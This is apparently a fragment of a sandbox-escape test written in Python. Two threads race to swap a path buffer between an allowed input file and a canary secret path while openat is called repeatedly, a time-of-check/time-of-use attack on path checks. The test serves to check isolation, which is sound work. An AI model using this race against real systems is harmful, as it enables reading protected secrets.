import ctypes
import os
import threading

TRIES = 20_000

libc = ctypes.CDLL(None, use_errno=True)
good = f"{INPUT}/file\0".encode()
bad = CANARY["secret"].encode() + b"\0"
path = buffer(good, 256)


def flipped():
    over = threading.Event()

    def flip():
        while not over.is_set():
            ctypes.memmove(path, bad, len(bad))
            ctypes.memmove(path, good, len(good))

    threads = [threading.Thread(target=flip) for _ in range(2)]
    for thread in threads:
        thread.start()
    found = None
    try:
        for _ in range(TRIES):
            descriptor = libc.openat(-100, path, os.O_RDONLY)
            if descriptor >= 0:
                content = os.read(descriptor, 200)
                os.close(descriptor)
                if content != b"an input":
                    found = content
                    break
    finally:
        over.set()
        for thread in threads:
            thread.join()
    if found is None:
        raise OSError(2, "never the other file")
    return found


attempt("openat", flipped)
